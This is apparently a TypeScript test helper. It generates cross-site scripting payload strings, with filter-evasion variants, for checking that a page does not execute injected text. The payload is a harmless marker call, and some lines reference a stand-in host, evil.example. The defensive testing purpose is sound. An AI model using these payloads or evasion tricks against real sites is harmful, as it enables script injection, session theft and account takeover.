/** Runs if a text becomes code. Tests give the page a function of this name. */
const RUN = `reportProblem('ran')`;

/** What makes browsers run text, by the ways in which text gets into a page: HTML, attributes, URLs, styles, scripts, templates, JSON. */
const SHAPES: readonly string[] = [
  `<script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<math><mtext></mtext><mglyph><style></math><img src onerror=${RUN}>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<a href="javascript:${RUN}" id=x>x</a>`,
  `<form action="javascript:${RUN}"><button autofocus>x</button></form>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<body onload=${RUN}>`,
  `<link rel=stylesheet href="data:text/css,*{background:url(javascript:${RUN})}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base href="https://evil.example/">`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `</script><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `" onmouseover="${RUN}" x="`,
  `' onfocus='${RUN}' autofocus x='`,
  `\` onload=${RUN} \``,
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `//evil.example/x.js`,
  `{{constructor.constructor("${RUN}")()}}`,
  `\${${RUN}}`,
  `{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${RUN}>"}}}`,
  `{"type":"script","props":{"children":"${RUN}"}}`,
  `\u2028${RUN}\u2029`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `\\u003cscript\\u003e${RUN}`,
  `\u202e<script>${RUN}</script>`,
];

/** Ways of writing the same that filters overlook. */
const WAYS: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase().replaceAll(/REPORTPROBLEM\('RAN'\)/g, RUN),
  (text) => `x"'>${text}`,
  (text) => text.replaceAll('<', '<\u200b').replaceAll(' ', '/'),
  (text) => text.replace(/<(\w)/, '<\n$1'),
  (text) => `${'a'.repeat(60)}${text}`,
  (text) => text.replaceAll("'", '&#39;'),
  (text) => `<!--${text}-->${text}`,
];

/** `count` different texts. */
export function hostileStrings(count: number): string[] {
  const texts = new Set<string>();
  for (let index = 0; texts.size < count; index += 1) {
    const shape = SHAPES[index % SHAPES.length] as string;
    const round = Math.floor(index / SHAPES.length);
    const text = (WAYS[round % WAYS.length] as (text: string) => string)(shape);
    texts.add(round < WAYS.length ? text : `${round} ${text}`);
  }
  return [...texts];
}
